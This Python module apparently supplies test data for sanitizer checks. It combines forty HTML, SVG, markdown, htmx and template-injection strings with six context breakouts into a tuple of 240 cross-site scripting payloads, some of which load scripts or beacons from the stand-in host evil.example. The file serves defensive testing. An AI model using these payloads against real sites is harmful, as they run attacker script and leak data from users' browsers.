"""Strings that try to become markup, script or a request: forty ideas in the contexts that let them out."""

from __future__ import annotations

IDEAS = (
    "<script>window.__hit=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.__hit=1>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=window.__hit=1>",
    "<svg><script>window.__hit=1</script></svg>",
    "<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__hit=1>#x'/></svg>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<body onload=window.__hit=1>",
    "<details open ontoggle=window.__hit=1>",
    "<input autofocus onfocus=window.__hit=1>",
    "<video><source onerror=window.__hit=1></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<a href=javascript:window.__hit=1>click</a>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=window.__hit=1>",
    "<div hx-get=https://evil.example/ hx-trigger=load>",
    "<div hx-on:load=window.__hit=1 hx-trigger=load>",
    "<div data-figure=fig-x hx-vals='js:{a:window.__hit=1}'>",
    "<template><script>window.__hit=1</script></template>",
    "<noscript><p title='</noscript><img src onerror=window.__hit=1>'>",
    "javascript:window.__hit=1",
    "data:text/html,<script>window.__hit=1</script>",
    "![pixel](https://evil.example/p.png)",
    "[link](javascript:window.__hit=1)",
    "{{7*7}}{% raw %}{{ f.caller }}",
    "${window.__hit=1}",
    "__proto__",
    "constructor",
    "\u202e\u2066<script>window.__hit=1</script>\u2069",
    "\x00<script>window.__hit=1</script>",
)
WAYS_OUT = ("{}", '">{}', "'>{}", "</script>{}", "</textarea></title></style>{}", "-->{}<!--")

PAYLOADS = tuple(way.replace("{}", idea) for idea in IDEAS for way in WAYS_OUT)
